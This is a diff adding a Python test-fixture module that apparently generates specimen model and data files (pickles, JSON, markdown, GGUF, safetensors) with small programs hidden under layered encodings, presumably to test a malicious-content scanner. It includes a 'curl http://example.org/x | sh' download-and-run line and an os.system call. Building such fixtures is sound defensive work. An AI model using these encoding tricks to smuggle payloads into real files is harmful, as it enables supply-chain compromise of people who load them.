@@ -1,0 +1,70 @@
+"""Harmless programs carried where data should be, under encodings; never loaded."""
+
+import base64
+import json
+import zlib
+from collections.abc import Callable
+
+from specimens.pickles import binary, hostile, proto, text
+from specimens.tensors import elf, entry, gguf, safetensors
+
+CODE = b"import os\nos.system('true')\n"
+SHELL = b"#!/bin/sh\ncurl http://example.org/x | sh\n"
+PROGRAMS = {"pickle": hostile(), "elf": elf(), "code": CODE, "shell": SHELL}
+Wrap = Callable[[bytes], bytes]
+WRAPS: dict[str, Wrap] = {
+    "base64": base64.b64encode,
+    "hex": lambda data: data.hex().encode(),
+    "base32": base64.b32encode,
+    "base85": base64.b85encode,
+    "ascii85": base64.a85encode,
+    "zlib in base64": lambda data: base64.b64encode(zlib.compress(data)),
+    "zlib in hex": lambda data: zlib.compress(data).hex().encode(),
+    "zlib in base85": lambda data: base64.b85encode(zlib.compress(data)),
+    "base64 in base64": lambda data: base64.b64encode(base64.b64encode(data)),
+    "base64 in zlib in hex": lambda data: (
+        zlib.compress(base64.b64encode(data)).hex().encode()
+    ),
+    "base64 reversed": lambda data: base64.b64encode(data)[::-1],
+    "reversed in base64": lambda data: base64.b64encode(data[::-1]),
+}
+
+
+def _encoded() -> dict[str, bytes]:
+    return {
+        f"{kind} in {name}": wrap(data)
+        for kind, data in PROGRAMS.items()
+        for name, wrap in WRAPS.items()
+    }
+
+
+def in_pickles() -> dict[str, bytes]:
+    """Return pickles of plain data, one value of which is a program."""
+    found = {}
+    for title, data in _encoded().items():
+        for form, value in (("bytes", binary(data)), ("text", text(data.decode()))):
+            body = b"}" + text("note") + value + b"s."
+            found[f"{title} as {form}.pkl"] = proto(4) + body
+    return found
+
+
+def in_texts() -> dict[str, bytes]:
+    """Return documents and settings that spell a program."""
+    found = {}
+    for title, data in _encoded().items():
+        settings = {"model_type": "bert", "note": data.decode()}
+        found[f"{title}.json"] = json.dumps(settings).encode()
+        found[f"{title}.txt"] = b"some notes\n\n" + data + b"\n\nthe end\n"
+        found[f"{title}.md"] = b"# A model\n\n```\n" + data + b"\n```\n"
+    return found
+
+
+def in_metadata() -> dict[str, bytes]:
+    """Return weights whose metadata spells a program."""
+    found = {}
+    for title, data in _encoded().items():
+        note = data.decode()
+        found[f"{title}.gguf"] = gguf().text("general.description", note).build()
+        header = {"__metadata__": {"note": note}, "w": entry("F32", [4], 0, 16)}
+        found[f"{title}.safetensors"] = safetensors(header)
+    return found
